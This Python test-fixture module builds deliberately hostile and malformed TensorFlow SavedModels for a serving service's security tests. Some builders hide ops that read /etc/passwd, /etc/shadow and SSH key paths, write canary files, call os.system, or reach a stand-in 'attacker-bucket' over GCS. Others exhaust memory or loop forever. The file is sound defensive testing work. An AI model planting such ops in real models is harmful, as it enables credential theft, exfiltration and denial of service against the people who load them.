"""Hostile and broken SavedModels for tests/test_hostile_models.py: ops that read, write or
reach the network (hidden in loops, branches, nested functions), contract breakers,
resource hogs. Each builder exports a model folder and returns its path."""

from __future__ import annotations

import os
import shutil
from pathlib import Path
from typing import Any, Callable

from tests.hostile_archives import Ctx, zip_folder

# --------------------------------------------------------------------------- model builders
# Every hostile op sits in a tf.function that is only traced for the export, never run:
# the export itself touches nothing, so a file found later was written by the service.


def _tf():
    import tensorflow as tf

    return tf


def _image_spec(dtype: Any = None, shape: tuple = (None, 28, 28, 1)):
    tf = _tf()
    return tf.TensorSpec(list(shape), dtype or tf.float32)


def _logits(x, classes: int = 10):
    tf = _tf()
    return tf.reshape(tf.reduce_mean(tf.cast(x, tf.float32), axis=[1, 2, 3]), [-1, 1]) * tf.ones([1, classes])


def export_module(path: Path, body: Callable, specs: list | None = None,
                  extra_methods: dict[str, Callable] | None = None) -> Path:
    """A tf.Module whose serving signature returns body(*inputs)."""
    tf = _tf()
    specs = specs or [_image_spec()]

    class Net(tf.Module):
        pass

    net = Net()
    net.w = tf.Variable(tf.zeros([10]))
    serve = tf.function(lambda *xs: body(*xs), input_signature=specs)
    net.serve = serve
    for name, fn in (extra_methods or {}).items():
        setattr(net, name, tf.function(fn, input_signature=[_image_spec()]))
    concrete = serve.get_concrete_function()
    tf.saved_model.save(net, str(path), signatures={"serving_default": concrete})
    return path


def _out(x):
    return {"logits": _logits(x)}


def _reads(ctx: Ctx, path: str) -> Path:
    """A model whose logits depend on the contents of `path` (ReadFile)."""
    tf = _tf()
    return export_module(ctx.tmp / "m", lambda x: {"logits": _logits(x) + tf.cast(
        tf.strings.length(tf.io.read_file(path)), tf.float32)})


def m_read_file(ctx: Ctx) -> Path:
    return _reads(ctx, "/etc/passwd")


def m_write_file(ctx: Ctx) -> Path:
    tf = _tf()

    def body(x):
        tf.io.write_file(ctx.tmp_target, "pwned")
        return _out(x)

    return export_module(ctx.tmp / "m", body)


def m_write_in_while_body(ctx: Ctx) -> Path:
    tf = _tf()

    def body(x):
        def step(i, acc):
            tf.io.write_file(ctx.canary_target, "pwned")
            return i + 1, acc

        _, y = tf.while_loop(lambda i, _: i < 2, step, [0, x])
        return _out(y)

    return export_module(ctx.tmp / "m", body)


def m_read_in_cond_branch(ctx: Ctx) -> Path:
    tf = _tf()

    def body(x):
        leak = lambda: x + tf.cast(tf.strings.length(tf.io.read_file("/etc/shadow")), tf.float32)  # noqa: E731
        return _out(tf.cond(tf.reduce_mean(x) > 2.0, leak, lambda: x))

    return export_module(ctx.tmp / "m", body)


def m_write_in_nested_function(ctx: Ctx) -> Path:
    tf = _tf()

    @tf.function
    def inner(t):
        tf.io.write_file(ctx.tmp_target, "pwned")
        return t

    return export_module(ctx.tmp / "m", lambda x: _out(inner(x)))


def m_write_in_unused_method(ctx: Ctx) -> Path:
    """The signature is clean; another saved method (callable after loading) is not."""
    tf = _tf()

    def evil(x):
        tf.io.write_file(ctx.tmp_target, "pwned")
        return x

    return export_module(ctx.tmp / "m", _out, extra_methods={"evil": evil})


def m_matching_files(ctx: Ctx) -> Path:
    tf = _tf()
    return export_module(ctx.tmp / "m", lambda x: {"logits": _logits(x) + tf.cast(
        tf.size(tf.io.matching_files("/home/*/.ssh/*")), tf.float32)})


def m_py_function(ctx: Ctx) -> Path:
    tf = _tf()

    def body(x):
        y = tf.py_function(lambda t: (os.system(f"touch {ctx.tmp_target}"), t)[1], [x], tf.float32)
        y.set_shape(x.shape)
        return _out(y)

    return export_module(ctx.tmp / "m", body)


def m_print_to_file(ctx: Ctx) -> Path:
    tf = _tf()

    def body(x):
        tf.print("pwned", output_stream=f"file://{ctx.canary_target}")
        return _out(x)

    return export_module(ctx.tmp / "m", body)


def m_decode_proto_file_descriptor(ctx: Ctx) -> Path:
    tf = _tf()

    def body(x):
        _, values = tf.io.decode_proto(tf.constant([b""]), "tensorflow.TensorShapeProto", ["unknown_rank"],
                                       [tf.bool], descriptor_source="file:///etc/passwd")
        return {"logits": _logits(x) + tf.cast(tf.size(values[0]), tf.float32)}

    return export_module(ctx.tmp / "m", body)


def m_remote_filesystem(ctx: Ctx) -> Path:
    """Reaching the network through TF's file systems (GCS is built in)."""
    return _reads(ctx, "gs://attacker-bucket/exfiltrate")


def m_nan(ctx: Ctx) -> Path:
    tf = _tf()
    return export_module(ctx.tmp / "m", lambda x: {"logits": _logits(x) + tf.math.log(-1.0 - tf.reduce_mean(x))})


def m_wrong_shape(ctx: Ctx) -> Path:
    import keras

    model = keras.Sequential([keras.Input((32, 32, 3)), keras.layers.Flatten(), keras.layers.Dense(10)])
    model.export(str(ctx.tmp / "m"), verbose=False)
    return ctx.tmp / "m"


def m_int_input(ctx: Ctx) -> Path:
    tf = _tf()
    return export_module(ctx.tmp / "m", _out, specs=[_image_spec(tf.int32)])


def m_five_classes(ctx: Ctx) -> Path:
    return export_module(ctx.tmp / "m", lambda x: {"logits": _logits(x, classes=5)})


def m_two_inputs(ctx: Ctx) -> Path:
    return export_module(ctx.tmp / "m", lambda x, y: {"logits": _logits(x + y)},
                         specs=[_image_spec(), _image_spec()])


def m_two_outputs(ctx: Ctx) -> Path:
    return export_module(ctx.tmp / "m", lambda x: {"a": _logits(x), "b": _logits(x)})


def m_rank3_output(ctx: Ctx) -> Path:
    tf = _tf()
    return export_module(ctx.tmp / "m", lambda x: {"logits": tf.reshape(_logits(x), [-1, 10, 1])})


def m_no_signatures(ctx: Ctx) -> Path:
    tf = _tf()
    module = tf.Module()
    module.v = tf.Variable(1.0)
    tf.saved_model.save(module, str(ctx.tmp / "m"))
    return ctx.tmp / "m"


def m_fails_at_inference(ctx: Ctx) -> Path:
    tf = _tf()

    def body(x):
        with tf.control_dependencies([tf.debugging.assert_less(tf.reduce_min(x), -1.0, message="refuse to run")]):
            return _out(tf.identity(x))

    return export_module(ctx.tmp / "m", body)


def m_missing_variables(ctx: Ctx) -> Path:
    path = export_module(ctx.tmp / "m", lambda x: {"logits": _logits(x)})
    shutil.rmtree(path / "variables")
    return path


def m_garbage_graph(ctx: Ctx) -> Path:
    path = ctx.tmp / "m"
    path.mkdir()
    (path / "saved_model.pb").write_bytes(b"\xff\xfe not a protobuf " * 64)
    return path


def m_memory_hog(ctx: Ctx) -> Path:
    """3 GiB of float32 sized at run time from the input, so nothing folds it away."""
    tf = _tf()

    def body(x):
        n = 768 + tf.cast(tf.reduce_min(x), tf.int32)
        big = tf.fill(tf.stack([n, 1024, 1024]), 1.0)
        return {"logits": _logits(x) + tf.reduce_mean(big) * 1e-6}

    return export_module(ctx.tmp / "m", body)


def m_infinite_loop(ctx: Ctx) -> Path:
    tf = _tf()

    def body(x):
        always = tf.reduce_min(x) > -1.0  # true for every image, known only at run time
        count = tf.while_loop(lambda i: always, lambda i: i + 1.0, [tf.constant(0.0)])[0]
        return {"logits": _logits(x) + count * 0.0}

    return export_module(ctx.tmp / "m", body)


def model_zip(builder: Callable[[Ctx], Path]) -> Callable[[Ctx], bytes]:
    return lambda ctx: zip_folder(builder(ctx))
